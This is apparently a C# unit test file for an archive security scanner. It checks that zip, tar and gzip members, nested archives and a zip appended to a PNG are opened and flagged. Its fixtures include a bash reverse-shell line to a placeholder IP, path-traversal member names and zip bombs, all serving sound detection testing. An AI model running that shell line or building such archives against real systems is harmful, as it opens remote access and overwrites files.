using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using Symbiont.Scanning.Tests.Files;

namespace Symbiont.Scanning.Tests.Archives;

public sealed class ArchiveTests : IDisposable
{
    private const string Shell = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";

    private readonly SkillFolder folder = new();

    [Fact]
    public void Members_of_a_zip_are_scanned_under_their_own_name_and_line()
    {
        folder.With("a.zip", Zip(("scripts/x.sh", Encoding.UTF8.GetBytes(Shell))));

        var found = Assert.Single(folder.Scan(), finding => finding.Rule == "reverse-shell-bash");
        Assert.Equal(("a.zip!/scripts/x.sh", 2, "zip"), (found.File, found.Line, string.Join('>', found.Layers)));
    }

    [Fact]
    public void Members_of_a_tar_and_of_a_packed_tar_are_scanned()
    {
        var tar = Tar(writer => writer.WriteEntry(Member("x.sh", Shell)));
        folder.With("a.tar", tar).With("b.tar.gz", Gzip(tar)).With("c.sh.gz", Gzip(Encoding.UTF8.GetBytes(Shell)));

        Assert.Equal(["a.tar!/x.sh", "b.tar.gz!/x.sh", "c.sh.gz!/c.sh"], folder.Scan().Where(finding => finding.Rule == "reverse-shell-bash").Select(finding => finding.File).Order());
    }

    [Fact]
    public void An_archive_in_an_archive_is_opened()
    {
        folder.With("a.zip", Zip(("b.zip", Zip(("c.tar.gz", Gzip(Tar(writer => writer.WriteEntry(Member("x.sh", Shell)))))))));

        Assert.Contains(folder.Scan(), finding => finding is { Rule: "reverse-shell-bash", File: "a.zip!/b.zip!/c.tar.gz!/x.sh" });
    }

    [Fact]
    public void Archives_deeper_than_the_limit_are_a_finding()
    {
        var archive = Zip(("x.sh", Encoding.UTF8.GetBytes(Shell)));
        for (var i = 0; i < 10; i++)
            archive = Zip(("inner.zip", archive));
        folder.With("a.zip", archive);

        Assert.Contains(folder.Scan(), finding => finding is { Rule: "scan-depth-limit", Severity: Severity.High });
    }

    [Theory]
    [InlineData("../../.bashrc")]
    [InlineData("/etc/cron.d/x")]
    [InlineData("a/../../b")]
    [InlineData("..\\..\\x")]
    [InlineData("C:\\x")]
    public void A_member_that_would_be_unpacked_elsewhere_is_high(string name)
    {
        folder.With("a.zip", Zip((name, "hello"u8.ToArray())));

        Assert.Contains(folder.Scan(), finding => finding is { Rule: "archive-traversal", Severity: Severity.High });
    }

    [Fact]
    public void A_link_in_a_tar_may_stay_inside_and_not_leave()
    {
        folder.With("a.tar", Tar(writer =>
        {
            writer.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "bin/inside") { LinkName = "../lib/x" });
            writer.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "bin/outside") { LinkName = "../../etc" });
        }));

        Assert.Equal(["a.tar!/bin/outside"], folder.Scan().Where(finding => finding.Rule == "archive-traversal").Select(finding => finding.File));
    }

    [Fact]
    public void A_bomb_is_a_finding_and_takes_no_more_than_its_budget()
    {
        folder.With("bomb.zip", Zip([.. Enumerable.Range(0, 6).Select(i => ($"{i}.bin", new byte[8 << 20]))]));

        var findings = folder.Scan(new() { Limits = new() { UnpackedBytes = 20 << 20, FileBytes = 4 << 20 } });

        Assert.Contains(findings, finding => finding is { Rule: "scan-size-limit", File: "bomb.zip", Severity: Severity.High });
        Assert.Contains(findings, finding => finding is { Rule: "scan-size-limit", File: "bomb.zip!/0.bin", Severity: Severity.High });
        Assert.DoesNotContain(findings, finding => finding.File.EndsWith("5.bin", StringComparison.Ordinal));
    }

    [Fact]
    public void A_bomb_in_a_tar_cannot_be_skipped_for_nothing()
    {
        folder.With("bomb.tar.gz", Gzip(Tar(writer =>
        {
            for (var i = 0; i < 4; i++)
                writer.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, $"{i}") { DataStream = new MemoryStream(new byte[8 << 20]) });
        })));

        Assert.Contains(folder.Scan(new() { Limits = new() { UnpackedBytes = 10 << 20, FileBytes = 1 << 20 } }), finding => finding is { Rule: "scan-size-limit", File: "bomb.tar.gz" });
    }

    [Fact]
    public void Too_many_members_are_a_finding()
    {
        folder.With("a.zip", Zip([.. Enumerable.Range(0, 50).Select(i => ($"{i}.txt", "x"u8.ToArray()))]));

        Assert.Contains(folder.Scan(new() { Limits = new() { Members = 10 } }), finding => finding.Rule == "scan-size-limit");
    }

    [Fact]
    public void A_member_with_a_password_is_high()
    {
        var zip = Zip(("x.sh", Encoding.UTF8.GetBytes(Shell)));
        // The first bit of the flags says that a member needs a password, in its own header and in the directory.
        zip[6] |= 1;
        zip[zip.AsSpan().IndexOf("PK\x01\x02"u8) + 8] |= 1;
        folder.With("a.zip", zip);

        Assert.Contains(folder.Scan(), finding => finding is { Rule: "encrypted-archive", Severity: Severity.High });
    }

    [Fact]
    public void A_broken_archive_and_one_that_cannot_be_opened_are_findings()
    {
        var zip = Zip(("x.txt", new byte[500]));
        folder.With("a.zip", zip[..^30]).With("b.gz", [0x1F, 0x8B, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9]).With("c.7z", [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4]);

        Assert.Equal([("a.zip", "broken-archive"), ("b.gz", "broken-archive"), ("c.7z", "opaque-archive")], folder.Scan().Select(finding => (finding.File, finding.Rule)).Order());
    }

    [Fact]
    public void A_zip_behind_a_picture_is_opened()
    {
        folder.With("logo.png", [0x89, .. "PNG\r\n\x1A\n"u8, .. new byte[64], .. Zip(("x.sh", Encoding.UTF8.GetBytes(Shell)))]);

        Assert.Contains(folder.Scan(), finding => finding is { Rule: "reverse-shell-bash", File: "logo.png!/x.sh" });
    }

    public void Dispose() => folder.Dispose();

    private static byte[] Zip(params (string Name, byte[] Content)[] members)
    {
        using var into = new MemoryStream();
        using (var zip = new ZipArchive(into, ZipArchiveMode.Create))
        {
            foreach (var (name, content) in members)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        }

        return into.ToArray();
    }

    private static byte[] Tar(Action<TarWriter> write)
    {
        using var into = new MemoryStream();
        using (var writer = new TarWriter(into, leaveOpen: true))
            write(writer);
        return into.ToArray();
    }

    private static PaxTarEntry Member(string name, string text) => new(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(text)) };

    private static byte[] Gzip(byte[] bytes)
    {
        using var into = new MemoryStream();
        using (var gzip = new GZipStream(into, CompressionLevel.Optimal))
            gzip.Write(bytes);
        return into.ToArray();
    }
}
